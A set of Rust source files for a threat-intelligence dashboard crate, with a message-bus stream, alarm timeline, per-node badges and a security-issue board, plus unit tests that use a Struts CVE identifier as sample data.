                .collect::<Vec<_>>()
                .join(","),
        ));
    }
    out
}

fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max {
        s.to_owned()
    } else {
        format!("{}…", &s[..max.saturating_sub(1)])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Timestamp, Uuid};
    use cais_core::ReducedIoc;
    use cais_infra::inventory::Inventory;
    use cais_infra::{Alarm, AlarmSeverity, NodeId};

    #[test]
    fn renders_nodes_links_and_issues() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(Alarm::new(
            1,
            NodeId(4),
            AlarmSeverity::High,
            "203.0.113.9",
            "192.168.1.14",
            "struts",
            "suricata",
            Timestamp::EPOCH,
        ));
        state.apply_rioc(ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts".into(),
            affected_application: None,
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        });
        let text = ascii(&state);
        assert!(text.contains("OwnCloud"));
        assert!(text.contains("GitLab"));
        assert!(text.contains("node-1 <-> node-2"));
        assert!(text.contains("TS=2.7406"));
        assert!(text.contains("[medium]"));
        // Node 4's circle shows the red alarm.
        assert!(text.contains("red"));
    }

    #[test]
    fn truncation_is_utf8_safe() {
        assert_eq!(truncate("short", 10), "short");
        assert_eq!(truncate("exactly-ten", 11), "exactly-ten");
        let long = truncate("a-very-long-node-name", 10);
        assert!(long.chars().count() <= 10);
    }
}
