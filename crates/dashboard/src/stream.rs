//! The live dashboard feed: bus subscriptions applied to the state.
//!
//! "The rIoC … will be sent directly to the Dashboard through specific
//! web sockets, developed relying on the socket.io library" (Section
//! IV-A). [`DashboardStream`] plays the socket role: it subscribes to
//! the rIoC and alarm topics and folds arriving messages into a
//! [`DashboardState`].

use cais_bus::{topics, Broker, Subscription};
use cais_core::ReducedIoc;
use cais_infra::Alarm;
use cais_telemetry::{Counter, FlightRecorder, Registry};

use crate::state::DashboardState;

/// Cached telemetry handles for an instrumented stream.
#[derive(Debug)]
struct StreamMetrics {
    riocs_applied: Counter,
    alarms_applied: Counter,
    decode_failures: Counter,
}

impl StreamMetrics {
    fn new(registry: &Registry) -> Self {
        StreamMetrics {
            riocs_applied: registry.counter("dashboard_riocs_applied_total"),
            alarms_applied: registry.counter("dashboard_alarms_applied_total"),
            decode_failures: registry.counter("dashboard_decode_failures_total"),
        }
    }
}

/// A dashboard wired to a live message bus.
pub struct DashboardStream {
    state: DashboardState,
    riocs: Subscription,
    alarms: Subscription,
    applied_riocs: usize,
    applied_alarms: usize,
    decode_failures: usize,
    metrics: Option<StreamMetrics>,
    flight: Option<FlightRecorder>,
}

impl DashboardStream {
    /// Subscribes the dashboard to a broker's rIoC and alarm topics.
    pub fn attach(state: DashboardState, broker: &Broker) -> Self {
        DashboardStream {
            state,
            riocs: broker.subscribe(topics::RIOC_PUBLISHED),
            alarms: broker.subscribe(topics::ALARM_RAISED),
            applied_riocs: 0,
            applied_alarms: 0,
            decode_failures: 0,
            metrics: None,
            flight: None,
        }
    }

    /// Attaches telemetry: pumping also records
    /// `dashboard_riocs_applied_total` / `dashboard_alarms_applied_total`
    /// / `dashboard_decode_failures_total` into the registry —
    /// typically the platform's, so decode failures surface on the
    /// scrape endpoint and the health panel instead of only in this
    /// struct's accessors.
    pub fn instrument(&mut self, registry: &Registry) {
        self.metrics = Some(StreamMetrics::new(registry));
    }

    /// Attaches a flight recorder: every decode failure dumps the last
    /// spans of every subsystem to disk, so a malformed publisher comes
    /// with a black box of what the platform was doing at the time.
    pub fn set_flight_recorder(&mut self, recorder: &FlightRecorder) {
        self.flight = Some(recorder.clone());
    }

    fn record_decode_failure(&mut self, topic: &str) {
        self.decode_failures += 1;
        if let Some(metrics) = &self.metrics {
            metrics.decode_failures.inc();
        }
        if let Some(flight) = &self.flight {
            let _ = flight.trigger("decode_failure", topic);
        }
    }

    /// Drains every queued message into the state, returning how many
    /// updates were applied.
    pub fn pump(&mut self) -> usize {
        let mut applied = 0;
        for message in self.riocs.drain() {
            match message.decode::<ReducedIoc>() {
                Ok(rioc) => {
                    self.state.apply_rioc(rioc);
                    self.applied_riocs += 1;
                    applied += 1;
                    if let Some(metrics) = &self.metrics {
                        metrics.riocs_applied.inc();
                    }
                }
                Err(_) => self.record_decode_failure(topics::RIOC_PUBLISHED),
            }
        }
        for message in self.alarms.drain() {
            match message.decode::<Alarm>() {
                Ok(alarm) => {
                    self.state.apply_alarm(alarm);
                    self.applied_alarms += 1;
                    applied += 1;
                    if let Some(metrics) = &self.metrics {
                        metrics.alarms_applied.inc();
                    }
                }
                Err(_) => self.record_decode_failure(topics::ALARM_RAISED),
            }
        }
        applied
    }

    /// The current state (pump first for freshness).
    pub fn state(&self) -> &DashboardState {
        &self.state
    }

    /// rIoCs applied over the stream's lifetime.
    pub fn applied_riocs(&self) -> usize {
        self.applied_riocs
    }

    /// Alarms applied over the stream's lifetime.
    pub fn applied_alarms(&self) -> usize {
        self.applied_alarms
    }

    /// Messages that failed to decode (malformed publishers).
    pub fn decode_failures(&self) -> usize {
        self.decode_failures
    }
}

impl std::fmt::Debug for DashboardStream {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("DashboardStream")
            .field("applied_riocs", &self.applied_riocs)
            .field("applied_alarms", &self.applied_alarms)
            .field("decode_failures", &self.decode_failures)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_bus::Topic;
    use cais_common::{Timestamp, Uuid};
    use cais_infra::inventory::Inventory;
    use cais_infra::{AlarmSeverity, NodeId};

    fn rioc() -> ReducedIoc {
        ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts".into(),
            affected_application: None,
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        }
    }

    #[test]
    fn pump_applies_published_messages() {
        let broker = Broker::new();
        let mut stream =
            DashboardStream::attach(DashboardState::new(Inventory::paper_table3()), &broker);
        broker
            .publish_value(topics::RIOC_PUBLISHED, &rioc())
            .unwrap();
        broker
            .publish_value(
                topics::ALARM_RAISED,
                &Alarm::new(
                    1,
                    NodeId(4),
                    AlarmSeverity::High,
                    "203.0.113.9",
                    "192.168.1.14",
                    "struts",
                    "suricata",
                    Timestamp::EPOCH,
                ),
            )
            .unwrap();
        assert_eq!(stream.pump(), 2);
        assert_eq!(stream.state().riocs().len(), 1);
        assert_eq!(stream.state().alarms().len(), 1);
        let badge = stream.state().badges()[&NodeId(4)];
        assert_eq!(badge.riocs, 1);
        assert_eq!(badge.red, 1);
    }

    #[test]
    fn malformed_messages_are_counted_not_fatal() {
        let broker = Broker::new();
        let mut stream =
            DashboardStream::attach(DashboardState::new(Inventory::paper_table3()), &broker);
        broker.publish(
            Topic::new(topics::RIOC_PUBLISHED),
            serde_json::json!("garbage"),
        );
        assert_eq!(stream.pump(), 0);
        assert_eq!(stream.decode_failures(), 1);
    }

    #[test]
    fn corrupt_alarm_payload_increments_decode_failures() {
        let broker = Broker::new();
        let registry = Registry::new();
        let mut stream =
            DashboardStream::attach(DashboardState::new(Inventory::paper_table3()), &broker);
        stream.instrument(&registry);
        broker.publish(
            Topic::new(topics::ALARM_RAISED),
            serde_json::json!({"not": "an alarm"}),
        );
        broker
            .publish_value(topics::RIOC_PUBLISHED, &rioc())
            .unwrap();
        assert_eq!(stream.pump(), 1);
        assert_eq!(stream.decode_failures(), 1);
        assert_eq!(stream.applied_riocs(), 1);
        let snapshot = registry.snapshot();
        assert_eq!(snapshot.counters["dashboard_decode_failures_total"], 1);
        assert_eq!(snapshot.counters["dashboard_riocs_applied_total"], 1);
        assert!(
            !snapshot
                .counters
                .contains_key("dashboard_alarms_applied_total")
                || snapshot.counters["dashboard_alarms_applied_total"] == 0
        );
    }

    #[test]
    fn decode_failure_dumps_the_flight_recorder() {
        use cais_telemetry::Tracer;

        let dir = std::env::temp_dir().join(format!(
            "cais-dashboard-flight-{}-{}",
            std::process::id(),
            "decode"
        ));
        let _ = std::fs::remove_dir_all(&dir);
        let broker = Broker::new();
        let tracer = Tracer::new();
        drop(tracer.root("pipeline", "ingest_round"));
        let recorder = FlightRecorder::new(tracer, &dir);
        let mut stream =
            DashboardStream::attach(DashboardState::new(Inventory::paper_table3()), &broker);
        stream.set_flight_recorder(&recorder);
        broker.publish(
            Topic::new(topics::RIOC_PUBLISHED),
            serde_json::json!("garbage"),
        );
        assert_eq!(stream.pump(), 0);
        assert_eq!(stream.decode_failures(), 1);
        assert_eq!(recorder.dumps(), 1);
        let dump = dir.join("flight-0000-decode_failure.json");
        let text = std::fs::read_to_string(&dump).expect("dump written");
        let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(doc["reason"], "decode_failure");
        assert_eq!(doc["detail"], topics::RIOC_PUBLISHED);
        assert!(doc["subsystems"]["pipeline"].as_array().is_some());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn end_to_end_with_platform() {
        use cais_common::{Observable, ObservableKind};
        use cais_core::Platform;
        use cais_feeds::{FeedRecord, ThreatCategory};

        let mut platform = Platform::paper_use_case();
        let mut stream = DashboardStream::attach(
            DashboardState::new(Inventory::paper_table3()),
            platform.broker(),
        );
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description("remote code execution in apache struts");
        platform.ingest_feed_records(vec![record]).unwrap();
        assert_eq!(stream.pump(), 1);
        assert_eq!(stream.state().riocs().len(), 1);
    }
}
