//! # cais-dashboard
//!
//! The Output Module's dashboard: the topology view with per-node alarm
//! circles and rIoC stars (Fig. 2), the node-details view (Fig. 3), the
//! security-issue detail (Fig. 4), renderers (ASCII, HTML, JSON), a
//! live stream applying bus messages to the state — the role socket.io
//! plays in the paper — and a platform-health panel rendered from a
//! telemetry snapshot ([`render::HealthPanel`]).
//!
//! # Examples
//!
//! ```
//! use cais_dashboard::{DashboardState, render};
//! use cais_infra::inventory::Inventory;
//!
//! let state = DashboardState::new(Inventory::paper_table3());
//! let text = render::ascii(&state);
//! assert!(text.contains("OwnCloud"));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod issues;
mod node_view;
pub mod render;
mod state;
mod stream;
mod timeline;

pub use issues::{IssueBoard, SecurityIssue};
pub use node_view::NodeView;
pub use state::{DashboardState, NodeBadge};
pub use stream::DashboardStream;
pub use timeline::{Timeline, TimelineBucket};
