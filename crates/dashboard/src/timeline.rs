//! Temporal activity view: alarms bucketed over time.
//!
//! Section II-B calls for visualization models that "handle diverse
//! types of data e.g., high-dimensional, **temporal**" and "the dynamic
//! nature of the data … to support real-time analysis". The timeline
//! buckets alarm activity into fixed windows and renders an ASCII
//! sparkline per severity band, so an analyst sees bursts at a glance.

use cais_common::Timestamp;
use cais_infra::AlarmSeverity;
use serde::{Deserialize, Serialize};

use crate::state::DashboardState;

/// One time bucket's counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct TimelineBucket {
    /// Low-severity alarms in the bucket.
    pub low: usize,
    /// Medium-severity alarms.
    pub medium: usize,
    /// High-severity alarms.
    pub high: usize,
}

impl TimelineBucket {
    /// Total alarms in the bucket.
    pub fn total(&self) -> usize {
        self.low + self.medium + self.high
    }
}

/// An alarm timeline over fixed-width buckets.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Timeline {
    /// Start of the first bucket.
    pub start: Timestamp,
    /// Bucket width in milliseconds.
    pub bucket_millis: i64,
    /// The buckets, oldest first.
    pub buckets: Vec<TimelineBucket>,
}

impl Timeline {
    /// Builds a timeline over the state's alarms with `buckets` windows
    /// of `bucket_millis` each, ending at `until`.
    ///
    /// # Panics
    ///
    /// Panics when `buckets` is zero or `bucket_millis` is not positive.
    pub fn build(
        state: &DashboardState,
        until: Timestamp,
        bucket_millis: i64,
        buckets: usize,
    ) -> Timeline {
        assert!(buckets > 0, "need at least one bucket");
        assert!(bucket_millis > 0, "bucket width must be positive");
        let start = until.add_millis(-(bucket_millis * buckets as i64));
        let mut out = vec![TimelineBucket::default(); buckets];
        for alarm in state.alarms() {
            let offset = alarm.raised_at.millis_since(start);
            if offset < 0 {
                continue;
            }
            let index = (offset / bucket_millis) as usize;
            if index >= buckets {
                continue;
            }
            match alarm.severity {
                AlarmSeverity::Low => out[index].low += 1,
                AlarmSeverity::Medium => out[index].medium += 1,
                AlarmSeverity::High => out[index].high += 1,
            }
        }
        Timeline {
            start,
            bucket_millis,
            buckets: out,
        }
    }

    /// The busiest bucket's total (0 for an empty timeline).
    pub fn peak(&self) -> usize {
        self.buckets
            .iter()
            .map(TimelineBucket::total)
            .max()
            .unwrap_or(0)
    }

    /// Renders the timeline as three ASCII sparklines (high/medium/low).
    pub fn to_ascii(&self) -> String {
        const LEVELS: &[char] = &[' ', '▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
        let peak = self.peak().max(1);
        let spark = |extract: fn(&TimelineBucket) -> usize| -> String {
            self.buckets
                .iter()
                .map(|bucket| {
                    let value = extract(bucket);
                    let level = (value * (LEVELS.len() - 1)).div_ceil(peak);
                    LEVELS[level.min(LEVELS.len() - 1)]
                })
                .collect()
        };
        format!(
            "alarms since {} ({} buckets × {}s, peak {}):\n  high   |{}|\n  medium |{}|\n  low    |{}|\n",
            self.start,
            self.buckets.len(),
            self.bucket_millis / 1_000,
            self.peak(),
            spark(|b| b.high),
            spark(|b| b.medium),
            spark(|b| b.low),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_infra::inventory::Inventory;
    use cais_infra::{Alarm, NodeId};

    fn alarm(at: Timestamp, severity: AlarmSeverity) -> Alarm {
        Alarm::new(1, NodeId(4), severity, "-", "-", "x", "test", at)
    }

    #[test]
    fn buckets_count_by_severity_and_window() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        let until = Timestamp::from_unix_secs(1_000);
        // Bucket width 100s, 10 buckets → window starts at t=0.
        state.apply_alarm(alarm(Timestamp::from_unix_secs(50), AlarmSeverity::High)); // bucket 0
        state.apply_alarm(alarm(Timestamp::from_unix_secs(150), AlarmSeverity::Low)); // bucket 1
        state.apply_alarm(alarm(Timestamp::from_unix_secs(150), AlarmSeverity::Medium)); // bucket 1
        state.apply_alarm(alarm(Timestamp::from_unix_secs(999), AlarmSeverity::High)); // bucket 9
        state.apply_alarm(alarm(Timestamp::from_unix_secs(-50), AlarmSeverity::High)); // before window
        state.apply_alarm(alarm(Timestamp::from_unix_secs(2_000), AlarmSeverity::High)); // after window

        let timeline = Timeline::build(&state, until, 100_000, 10);
        assert_eq!(timeline.buckets.len(), 10);
        assert_eq!(timeline.buckets[0].high, 1);
        assert_eq!(timeline.buckets[1].low, 1);
        assert_eq!(timeline.buckets[1].medium, 1);
        assert_eq!(timeline.buckets[9].high, 1);
        let counted: usize = timeline.buckets.iter().map(TimelineBucket::total).sum();
        assert_eq!(counted, 4);
        assert_eq!(timeline.peak(), 2);
    }

    #[test]
    fn ascii_render_shape() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        for i in 0..20 {
            state.apply_alarm(alarm(
                Timestamp::from_unix_secs(i * 10),
                if i % 3 == 0 {
                    AlarmSeverity::High
                } else {
                    AlarmSeverity::Low
                },
            ));
        }
        let timeline = Timeline::build(&state, Timestamp::from_unix_secs(200), 20_000, 10);
        let text = timeline.to_ascii();
        assert!(text.contains("high   |"));
        assert!(text.contains("medium |"));
        assert!(text.contains("low    |"));
        // Each sparkline row carries exactly 10 bucket glyphs.
        for row in text.lines().skip(1) {
            let inside: String = row
                .chars()
                .skip_while(|c| *c != '|')
                .skip(1)
                .take_while(|c| *c != '|')
                .collect();
            assert_eq!(inside.chars().count(), 10, "{row}");
        }
    }

    #[test]
    fn empty_state_renders_quietly() {
        let state = DashboardState::new(Inventory::paper_table3());
        let timeline = Timeline::build(&state, Timestamp::from_unix_secs(100), 10_000, 5);
        assert_eq!(timeline.peak(), 0);
        assert!(timeline.to_ascii().contains("peak 0"));
    }

    #[test]
    #[should_panic(expected = "at least one bucket")]
    fn zero_buckets_panic() {
        let state = DashboardState::new(Inventory::paper_table3());
        let _ = Timeline::build(&state, Timestamp::EPOCH, 1_000, 0);
    }
}
