//! The dashboard's aggregated state.
//!
//! "Each node will have in its upper left side a circle indicating the
//! number and severity of the alarms (in colors green, yellow and red),
//! and in its lower right side, a star indicating the number of rIoCs
//! related to that particular node" (Section III-C1).

use std::collections::BTreeMap;

use cais_core::ReducedIoc;
use cais_infra::{Alarm, AlarmSeverity, Inventory, NodeId, Topology};
use serde::{Deserialize, Serialize};

/// The per-node badge: the alarm circle plus the rIoC star.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct NodeBadge {
    /// Low-severity (green) alarm count.
    pub green: usize,
    /// Medium-severity (yellow) alarm count.
    pub yellow: usize,
    /// High-severity (red) alarm count.
    pub red: usize,
    /// Number of rIoCs associated with the node (the star).
    pub riocs: usize,
}

impl NodeBadge {
    /// Total alarms on the circle.
    pub fn alarm_count(&self) -> usize {
        self.green + self.yellow + self.red
    }

    /// The circle's dominant color: the worst severity present.
    pub fn circle_color(&self) -> &'static str {
        if self.red > 0 {
            "red"
        } else if self.yellow > 0 {
            "yellow"
        } else {
            "green"
        }
    }
}

/// The dashboard's full state: topology + per-node badges + details.
#[derive(Debug, Clone)]
pub struct DashboardState {
    inventory: Inventory,
    topology: Topology,
    alarms: Vec<Alarm>,
    riocs: Vec<ReducedIoc>,
}

impl DashboardState {
    /// Creates a dashboard over an inventory, deriving the topology.
    pub fn new(inventory: Inventory) -> Self {
        let topology = Topology::from_inventory(&inventory);
        DashboardState {
            inventory,
            topology,
            alarms: Vec::new(),
            riocs: Vec::new(),
        }
    }

    /// The inventory backing the view.
    pub fn inventory(&self) -> &Inventory {
        &self.inventory
    }

    /// The topology graph.
    pub fn topology(&self) -> &Topology {
        &self.topology
    }

    /// Applies one alarm.
    pub fn apply_alarm(&mut self, alarm: Alarm) {
        self.alarms.push(alarm);
    }

    /// Applies one rIoC.
    pub fn apply_rioc(&mut self, rioc: ReducedIoc) {
        self.riocs.push(rioc);
    }

    /// All applied alarms.
    pub fn alarms(&self) -> &[Alarm] {
        &self.alarms
    }

    /// All applied rIoCs.
    pub fn riocs(&self) -> &[ReducedIoc] {
        &self.riocs
    }

    /// Alarms concerning one node.
    pub fn alarms_for(&self, node: NodeId) -> Vec<&Alarm> {
        self.alarms.iter().filter(|a| a.node == node).collect()
    }

    /// rIoCs associated with one node.
    pub fn riocs_for(&self, node: NodeId) -> Vec<&ReducedIoc> {
        self.riocs
            .iter()
            .filter(|r| r.nodes.contains(&node))
            .collect()
    }

    /// The badge of every node, in node order.
    pub fn badges(&self) -> BTreeMap<NodeId, NodeBadge> {
        let mut badges: BTreeMap<NodeId, NodeBadge> = self
            .inventory
            .nodes()
            .map(|n| (n.id, NodeBadge::default()))
            .collect();
        for alarm in &self.alarms {
            if let Some(badge) = badges.get_mut(&alarm.node) {
                match alarm.severity {
                    AlarmSeverity::Low => badge.green += 1,
                    AlarmSeverity::Medium => badge.yellow += 1,
                    AlarmSeverity::High => badge.red += 1,
                }
            }
        }
        for rioc in &self.riocs {
            for node in &rioc.nodes {
                if let Some(badge) = badges.get_mut(node) {
                    badge.riocs += 1;
                }
            }
        }
        badges
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Timestamp, Uuid};

    fn rioc(nodes: Vec<NodeId>, score: f64) -> ReducedIoc {
        ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts RCE".into(),
            affected_application: Some("apache".into()),
            threat_score: score,
            criteria: None,
            nodes,
            via_common_keyword: false,
            misp_event_id: None,
        }
    }

    fn alarm(node: NodeId, severity: AlarmSeverity) -> Alarm {
        Alarm::new(
            1,
            node,
            severity,
            "203.0.113.9",
            "192.168.1.14",
            "issue",
            "suricata",
            Timestamp::EPOCH,
        )
    }

    #[test]
    fn badges_aggregate_alarms_and_riocs() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(alarm(NodeId(4), AlarmSeverity::High));
        state.apply_alarm(alarm(NodeId(4), AlarmSeverity::Low));
        state.apply_alarm(alarm(NodeId(1), AlarmSeverity::Medium));
        state.apply_rioc(rioc(vec![NodeId(4)], 2.74));
        state.apply_rioc(rioc(vec![NodeId(1), NodeId(2), NodeId(3), NodeId(4)], 1.5));

        let badges = state.badges();
        let node4 = badges[&NodeId(4)];
        assert_eq!((node4.red, node4.green, node4.yellow), (1, 1, 0));
        assert_eq!(node4.riocs, 2);
        assert_eq!(node4.circle_color(), "red");
        let node1 = badges[&NodeId(1)];
        assert_eq!(node1.circle_color(), "yellow");
        assert_eq!(node1.riocs, 1);
        let node2 = badges[&NodeId(2)];
        assert_eq!(node2.alarm_count(), 0);
        assert_eq!(node2.riocs, 1);
    }

    #[test]
    fn per_node_queries() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(alarm(NodeId(2), AlarmSeverity::Low));
        state.apply_rioc(rioc(vec![NodeId(2)], 3.0));
        assert_eq!(state.alarms_for(NodeId(2)).len(), 1);
        assert_eq!(state.riocs_for(NodeId(2)).len(), 1);
        assert!(state.alarms_for(NodeId(3)).is_empty());
    }

    #[test]
    fn topology_is_derived() {
        let state = DashboardState::new(Inventory::paper_table3());
        assert_eq!(state.topology().links().len(), 6);
    }

    #[test]
    fn alarms_for_unknown_node_are_kept_off_badges() {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(alarm(NodeId(99), AlarmSeverity::High));
        let badges = state.badges();
        assert!(badges.values().all(|b| b.alarm_count() == 0));
        // The raw alarm is still recorded for the analyst.
        assert_eq!(state.alarms().len(), 1);
    }
}
