//! The security-issue detail view of Fig. 4, plus the top-N issue board
//! for high-volume deployments (the paper's future-work item on
//! "representation of a huge amount of alarms and rIoCs").

use cais_core::ReducedIoc;
use cais_infra::{Inventory, NodeId};
use serde::Serialize;

/// The detailed view of one reduced IoC, as Fig. 4 lays it out:
/// vulnerability identification, description, the affected
/// infrastructure and the threat score.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct SecurityIssue {
    /// The CVE, when known.
    pub cve: Option<String>,
    /// Description of the vulnerability/threat.
    pub description: String,
    /// The affected application.
    pub affected_application: Option<String>,
    /// Names of the affected nodes.
    pub affected_nodes: Vec<String>,
    /// The threat score.
    pub threat_score: f64,
    /// Per-criterion summary behind the score (`R/A/T/V` point totals),
    /// when available — the paper's future-work display item.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub criteria_summary: Option<String>,
    /// The dashboard priority label.
    pub priority: &'static str,
    /// Link to the stored eIoC.
    pub misp_event_id: Option<u64>,
}

impl SecurityIssue {
    /// Builds the issue view from a rIoC, resolving node names.
    pub fn from_rioc(rioc: &ReducedIoc, inventory: &Inventory) -> SecurityIssue {
        let affected_nodes = rioc
            .nodes
            .iter()
            .filter_map(|id| inventory.node(*id))
            .map(|n| format!("{} ({})", n.name, n.id))
            .collect();
        let criteria_summary = rioc.criteria.map(|totals| {
            format!(
                "R={} A={} T={} V={}",
                totals.relevance, totals.accuracy, totals.timeliness, totals.variety
            )
        });
        SecurityIssue {
            cve: rioc.cve.clone(),
            description: rioc.description.clone(),
            affected_application: rioc.affected_application.clone(),
            affected_nodes,
            threat_score: rioc.threat_score,
            criteria_summary,
            priority: rioc.priority_label(),
            misp_event_id: rioc.misp_event_id,
        }
    }
}

/// The triage board: issues ranked by threat score, optionally capped.
#[derive(Debug, Clone, Default)]
pub struct IssueBoard {
    issues: Vec<SecurityIssue>,
    cap: Option<usize>,
}

impl IssueBoard {
    /// An unbounded board.
    pub fn new() -> Self {
        IssueBoard::default()
    }

    /// A board keeping only the `cap` highest-scoring issues — how the
    /// dashboard stays readable under rIoC floods.
    pub fn with_cap(cap: usize) -> Self {
        IssueBoard {
            issues: Vec::new(),
            cap: Some(cap),
        }
    }

    /// Inserts an issue, keeping the board sorted by descending score
    /// and enforcing the cap.
    pub fn push(&mut self, issue: SecurityIssue) {
        let position = self
            .issues
            .partition_point(|existing| existing.threat_score >= issue.threat_score);
        self.issues.insert(position, issue);
        if let Some(cap) = self.cap {
            self.issues.truncate(cap);
        }
    }

    /// The ranked issues.
    pub fn issues(&self) -> &[SecurityIssue] {
        &self.issues
    }

    /// Number of issues on the board.
    pub fn len(&self) -> usize {
        self.issues.len()
    }

    /// Whether the board is empty.
    pub fn is_empty(&self) -> bool {
        self.issues.is_empty()
    }

    /// Issues concerning one node.
    pub fn for_node(&self, inventory: &Inventory, node: NodeId) -> Vec<&SecurityIssue> {
        let Some(name) = inventory
            .node(node)
            .map(|n| format!("{} ({})", n.name, n.id))
        else {
            return Vec::new();
        };
        self.issues
            .iter()
            .filter(|i| i.affected_nodes.contains(&name))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::Uuid;
    use cais_infra::inventory::Inventory;

    fn rioc(score: f64, cve: &str) -> ReducedIoc {
        ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some(cve.into()),
            description: "struts RCE".into(),
            affected_application: Some("apache".into()),
            threat_score: score,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: Some(7),
        }
    }

    #[test]
    fn fig4_issue_detail() {
        let inventory = Inventory::paper_table3();
        let issue = SecurityIssue::from_rioc(&rioc(2.7406, "CVE-2017-9805"), &inventory);
        assert_eq!(issue.cve.as_deref(), Some("CVE-2017-9805"));
        assert_eq!(issue.affected_nodes, vec!["XL-SIEM (node-4)"]);
        assert_eq!(issue.priority, "medium");
        assert_eq!(issue.misp_event_id, Some(7));
    }

    #[test]
    fn board_ranks_by_score() {
        let inventory = Inventory::paper_table3();
        let mut board = IssueBoard::new();
        for (score, cve) in [
            (2.0, "CVE-A-0001"),
            (4.0, "CVE-B-0001"),
            (3.0, "CVE-C-0001"),
        ] {
            board.push(SecurityIssue::from_rioc(&rioc(score, cve), &inventory));
        }
        let scores: Vec<f64> = board.issues().iter().map(|i| i.threat_score).collect();
        assert_eq!(scores, vec![4.0, 3.0, 2.0]);
    }

    #[test]
    fn cap_keeps_the_top() {
        let inventory = Inventory::paper_table3();
        let mut board = IssueBoard::with_cap(2);
        for score in [1.0, 5.0, 3.0, 4.0] {
            board.push(SecurityIssue::from_rioc(
                &rioc(score, "CVE-X-0001"),
                &inventory,
            ));
        }
        let scores: Vec<f64> = board.issues().iter().map(|i| i.threat_score).collect();
        assert_eq!(scores, vec![5.0, 4.0]);
    }

    #[test]
    fn per_node_filter() {
        let inventory = Inventory::paper_table3();
        let mut board = IssueBoard::new();
        board.push(SecurityIssue::from_rioc(
            &rioc(2.0, "CVE-X-0001"),
            &inventory,
        ));
        assert_eq!(board.for_node(&inventory, NodeId(4)).len(), 1);
        assert!(board.for_node(&inventory, NodeId(1)).is_empty());
        assert!(board.for_node(&inventory, NodeId(99)).is_empty());
    }
}

#[cfg(test)]
mod criteria_tests {
    use super::*;
    use cais_common::Uuid;
    use cais_core::heuristics::CriteriaTotals;
    use cais_core::ReducedIoc;
    use cais_infra::inventory::Inventory;
    use cais_infra::NodeId;

    #[test]
    fn criteria_summary_renders_when_present() {
        let inventory = Inventory::paper_table3();
        let rioc = ReducedIoc {
            id: Uuid::NIL,
            cve: Some("CVE-2017-9805".into()),
            description: "struts RCE".into(),
            affected_application: Some("apache".into()),
            threat_score: 2.7406,
            criteria: Some(CriteriaTotals {
                relevance: 39,
                accuracy: 25,
                timeliness: 8,
                variety: 12,
            }),
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        };
        let issue = SecurityIssue::from_rioc(&rioc, &inventory);
        assert_eq!(
            issue.criteria_summary.as_deref(),
            Some("R=39 A=25 T=8 V=12")
        );
    }

    #[test]
    fn pipeline_riocs_carry_criteria_to_the_issue_view() {
        use cais_common::{Observable, ObservableKind};
        use cais_core::Platform;
        use cais_feeds::{FeedRecord, ThreatCategory};

        let mut platform = Platform::paper_use_case();
        let now = platform.context().now;
        let record = FeedRecord::new(
            Observable::new(ObservableKind::Cve, "CVE-2017-9805"),
            ThreatCategory::VulnerabilityExploitation,
            "nvd-feed",
            now.add_days(-100),
        )
        .with_cve("CVE-2017-9805")
        .with_description("remote code execution in apache struts");
        platform.ingest_feed_records(vec![record]).unwrap();
        let rioc = &platform.riocs()[0];
        assert!(
            rioc.criteria.is_some(),
            "vulnerability heuristic is criteria-weighted"
        );
        let issue = SecurityIssue::from_rioc(rioc, &Inventory::paper_table3());
        assert!(issue.criteria_summary.as_deref().unwrap().starts_with("R="));
    }
}
