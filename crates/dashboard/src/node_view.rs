//! The node-details view of Fig. 3: "the type of node (e.g., Server,
//! Workstation); the IP addresses (known, unknown, source,
//! destination); the operating system (e.g., Linux, Windows); and the
//! connected networks (e.g., LAN, WAN)".

use std::collections::BTreeSet;

use cais_infra::{NodeId, NodeType};
use serde::{Deserialize, Serialize};

use crate::state::{DashboardState, NodeBadge};

/// The drill-down view of one node.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NodeView {
    /// The node id.
    pub id: NodeId,
    /// Display name.
    pub name: String,
    /// Server or workstation.
    pub node_type: NodeType,
    /// Operating system.
    pub operating_system: String,
    /// The node's own (known) IP addresses.
    pub known_ips: Vec<String>,
